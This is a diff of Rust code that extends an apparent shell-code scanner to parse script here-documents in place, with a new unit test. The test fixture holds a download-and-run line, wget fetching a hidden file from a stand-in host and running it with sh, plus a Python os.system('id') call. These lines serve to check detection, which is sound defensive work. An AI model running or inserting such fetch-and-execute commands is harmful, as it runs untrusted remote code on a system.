@@ -37,14 +37,70 @@ pub fn scan(src: &str, origin: Origin, sink: &mut Sink) {
     };
     let mut pipe_next: HashMap<usize, String> = HashMap::default();
     let mut nested: Vec<(String, usize, usize)> = Vec::new();
+    let mut scripts: Vec<(Language, usize, usize)> = Vec::new();
     ts::walk(&tree, |node, ctx| {
         visit(src, node, ctx, origin, sink, &mut pipe_next, &mut nested);
+        if ctx.kind == "heredoc_body"
+            && let Some(lang) = heredoc_language(src, node, ctx)
+        {
+            scripts.push((lang, node.start_byte(), node.end_byte()));
+        }
         true
     });
     for (code, start, end) in nested {
         let (s, e) = origin.map(start, end);
         super::scan_source(Language::Shell, &code, Origin::Fixed(s, e), sink);
     }
+    // A here-document that is a script (a shebang, or fed to a shell or
+    // interpreter) is parsed in place, so its lines keep their numbers.
+    for (lang, start, end) in scripts {
+        let Some(body) = src.get(start..end) else {
+            continue;
+        };
+        let inner = match origin {
+            Origin::Offset(base) => Origin::Offset(base + start),
+            fixed @ Origin::Fixed(..) => fixed,
+        };
+        super::scan_source(lang, body, inner, sink);
+    }
+}
+
+/// The language of a here-document that is a script: by its shebang, else
+/// by the command it is fed to (`sh <<EOF`, `python3 - <<EOF`).
+fn heredoc_language(src: &str, body: Node<'_>, ctx: &Ctx<'_>) -> Option<Language> {
+    let text = ts::text(body, src);
+    let first = text.trim_start().lines().next().unwrap_or("");
+    let by_name = |name: &str| -> Option<Language> {
+        let name = name.rsplit('/').next().unwrap_or(name);
+        if SHELLS.contains(&name) {
+            Some(Language::Shell)
+        } else if name.starts_with("python") {
+            Some(Language::Python)
+        } else if matches!(name, "node" | "nodejs" | "deno" | "bun") {
+            Some(Language::JavaScript)
+        } else {
+            None
+        }
+    };
+    if let Some(shebang) = first.strip_prefix("#!") {
+        let mut words = shebang.split_whitespace();
+        let prog = words.next().unwrap_or("");
+        let prog = if prog.ends_with("/env") {
+            words.find(|w| !w.starts_with('-')).unwrap_or("")
+        } else {
+            prog
+        };
+        return by_name(prog).or(Some(Language::Shell));
+    }
+    let stmt = ctx
+        .ancestors
+        .iter()
+        .rev()
+        .take(3)
+        .find(|a| ts::kind(**a) == "redirected_statement")?;
+    let cmd = ts::field(*stmt, "body")?;
+    let (name, _) = command_words(src, cmd)?;
+    by_name(&name)
 }
 
 /// The command node inside a pipeline element (which may be wrapped in a
@@ -482,6 +538,31 @@ mod tests {
                 value: "quoted".into()
             }),
             "{f:?}"
+        );
+    }
+
+    #[test]
+    fn heredoc_scripts_are_parsed_in_place() {
+        let src = "cat > /tmp/x <<'EOF'\n#!/bin/sh\nwget -q -O /tmp/.a http://h.example.invalid/n && sh /tmp/.a\nEOF\npython3 - <<EOF\nimport os\nos.system('id')\nEOF\ncat > notes.txt <<EOF\ncurl is a tool\nEOF\n";
+        let mut sink = Sink::new();
+        scan(src, Origin::Offset(0), &mut sink);
+        let wget = sink
+            .facts
+            .iter()
+            .find(|f| matches!(&f.kind, FactKind::Command { name, .. } if name == "wget"))
+            .expect("wget parsed");
+        assert_eq!(&src[wget.start..wget.start + 4], "wget");
+        assert!(
+            sink.facts
+                .iter()
+                .any(|f| matches!(&f.kind, FactKind::Call { callee, .. } if callee == "os.system"))
+        );
+        assert!(
+            !sink
+                .facts
+                .iter()
+                .any(|f| matches!(&f.kind, FactKind::Command { name, .. } if name == "curl")),
+            "plain text here-documents are not scripts"
         );
     }
 }
